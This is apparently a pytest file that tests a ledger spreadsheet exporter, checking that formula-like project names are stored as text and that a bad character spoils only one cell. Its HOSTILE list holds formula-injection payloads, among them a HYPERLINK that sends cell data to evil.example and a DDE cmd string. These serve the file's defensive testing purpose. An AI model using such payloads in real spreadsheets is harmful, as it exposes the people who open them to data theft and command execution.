"""The exported 台账 is safe to open: text is never a formula, a bad character spoils one cell only."""

from __future__ import annotations

from pathlib import Path

import attrs
from openpyxl import load_workbook

from audit_helpers import AREA, XIAOGAN, actor
from projlife.app.application import Projlife
from projlife.reports.ledger_export import export_ledger_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&H3,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
]


def _projects(app: Projlife) -> None:
    for i, name in enumerate(HOSTILE, start=1):
        app.projects.execute(
            {
                "command": "conceive",
                "code": f"XG-X-{i:03d}",
                "project_name": name,
                "city_code": XIAOGAN,
                "area_code": AREA,
                "category": "industrial",
                "planned_investment_yuan": "150000000",
                "occurred_on": "2024-01-05",
                "actor": actor("clerk-1", "clerk"),
                "reserved": True,
            }
        )
    app.projections.run()


def test_text_starting_with_a_formula_character_is_written_as_text(app: Projlife, tmp_path: Path) -> None:
    _projects(app)
    path = tmp_path / "ledger.xlsx"
    rows = app.ledger.rows(city="xiaogan", with_details=True)
    export_ledger_xlsx(rows, path, city=app.city("xiaogan"), as_of=None)
    ws = load_workbook(path)["台账"]
    cells = [c for row in ws.iter_rows(min_row=3) for c in row if isinstance(c.value, str)]
    assert cells
    assert all(c.data_type == "s" for c in cells), [c.coordinate for c in cells if c.data_type != "s"]
    names = {c.value for c in cells}
    assert {h.strip() for h in HOSTILE} <= names  # names are stripped at the boundary


def test_an_illegal_character_spoils_only_its_cell(app: Projlife, tmp_path: Path) -> None:
    _projects(app)
    rows = app.ledger.rows(city="xiaogan", with_details=True)
    bad = [attrs.evolve(rows[0], name="坏\x07名"), *rows[1:]]
    path = tmp_path / "ledger.xlsx"
    assert export_ledger_xlsx(bad, path, city=app.city("xiaogan"), as_of=None) == len(rows)
    values = {c.value for row in load_workbook(path)["台账"].iter_rows(min_row=3) for c in row}
    assert "坏\ufffd名" in values
